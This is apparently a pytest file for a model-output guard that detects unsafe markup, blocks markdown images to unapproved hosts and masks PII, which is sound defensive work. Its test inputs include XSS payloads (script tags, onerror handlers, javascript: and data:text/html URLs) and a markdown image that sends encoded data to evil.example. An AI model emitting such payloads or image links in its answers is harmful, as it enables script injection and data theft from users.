"""Answer checks: where answers are, the fallback, rendered view, image hosts, PII."""

from __future__ import annotations

from typing import Any

import pytest

from gateway.guard.answer import locate
from gateway.guard.markup import host_allowed, image_hosts, mask_pii, strip_code
from gateway.guard.output import AnswerChecker
from gateway.policy.sections import OutputGuardConfig


def _checker(**cfg: Any) -> AnswerChecker:
    return AnswerChecker(OutputGuardConfig.model_validate({"rules": ["unsafe-markup"], **cfg}))


def test_openai_answers_are_replaced_in_place() -> None:
    doc = {
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": "ok"},
                "finish_reason": "stop",
            },
            {"index": 1, "text": "<script>x</script>", "finish_reason": "stop"},
        ]
    }
    answers = locate(doc, "auto", [])
    assert [a.text for a in answers] == ["ok", "<script>x</script>"]
    answers[1].replace("FALLBACK")
    assert doc["choices"][1] == {"index": 1, "text": "FALLBACK", "finish_reason": "content_filter"}
    assert doc["choices"][0]["finish_reason"] == "stop"


def test_anthropic_answer_keeps_one_text_block() -> None:
    doc = {
        "type": "message",
        "content": [
            {"type": "text", "text": "a <scr"},
            {"type": "tool_use", "id": "t", "name": "n", "input": {}},
            {"type": "text", "text": "ipt>"},
        ],
        "stop_reason": "end_turn",
    }
    (answer,) = locate(doc, "auto", [])
    assert answer.text == "a <script>"
    assert _checker().check(answer.text) is not None  # split across blocks, still caught
    answer.replace("FALLBACK")
    assert doc["content"] == [
        {"type": "text", "text": "FALLBACK"},
        {"type": "tool_use", "id": "t", "name": "n", "input": {}},
    ]
    assert doc["stop_reason"] == "refusal"


def test_code_is_displayed_not_rendered() -> None:
    text = "Use `<script>` like this:\n```html\n<script>alert(1)</script>\n```\n<b>done</b>"
    stripped, open_fence = strip_code(text)
    assert len(stripped) == len(text) and not open_fence
    assert "<script" not in stripped and "<b>done</b>" in stripped
    checker = _checker()
    assert checker.check(text) is None
    assert checker.check(text + " <img src=x onerror=alert(1)>") is not None
    assert _checker(skip_code=False).check(text) is not None
    # A backtick that opens an attribute value is not a code span.
    assert checker.check("<IMG SRC=`javascript:alert(1)`>") is not None


@pytest.mark.parametrize(
    ("answer", "rule"),
    [
        ("<ScRiPt>alert(1)</script>", "unsafe-markup/script-tag"),
        ('<img src=x onerror="alert(1)">', "unsafe-markup/event-handler"),
        ("[click](javascript:alert(1))", "unsafe-markup/script-url"),
        ("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "unsafe-markup/data-html-url"),
        ("&#60;script&#62;alert(1)&#60;/script&#62;", "unsafe-markup/script-tag"),
        ("<iframe src=//evil.example>", "unsafe-markup/active-tag"),
    ],
)
def test_unsafe_markup(answer: str, rule: str) -> None:
    verdict = _checker().check(answer)
    assert verdict is not None and rule in {h[0] for h in verdict.hits}


def test_images_only_on_allowed_hosts() -> None:
    exfil = "Done ![x](https://evil.example/p.png?d=c2VjcmV0) ok"
    assert image_hosts(exfil.lower()) == ["evil.example"]
    reference = "![t][r]\n\n[r]: https://evil.example/x.png?q=1"
    assert image_hosts(reference) == ["evil.example"]
    checker = _checker(image_hosts=["evil.example"])
    assert checker.check(exfil) is None
    blocked = _checker().check(exfil)
    assert blocked is not None and blocked.rule == "unsafe-markup/image-exfiltration"
    assert _checker().check("![diagram](/static/diagram.png)") is None  # same origin
    assert host_allowed("cdn.img.example.com", frozenset({"img.example.com"}))
    assert not host_allowed("img.example.com.evil.io", frozenset({"img.example.com"}))


def test_max_chars_counts_as_a_violation() -> None:
    verdict = _checker(max_chars=5, action="block").check("123456")
    assert verdict is not None and (verdict.rule, verdict.action) == ("max_chars", "block")


def test_pii_masking() -> None:
    text = (
        "Mail john.doe@example.com or call +1 415-555-0132; card 4111 1111 1111 1111, "
        "not 4111 1111 1111 1112; ip 192.168.100.200, date 2024-01-15, order 1234567890123."
    )
    masked, count = mask_pii(text)
    assert masked == (
        "Mail [email] or call [phone]; card [card], not 4111 1111 1111 1112; "
        "ip 192.168.100.200, date 2024-01-15, order 1234567890123."
    )
    assert count == 3
    assert mask_pii("nothing to see") == ("nothing to see", 0)
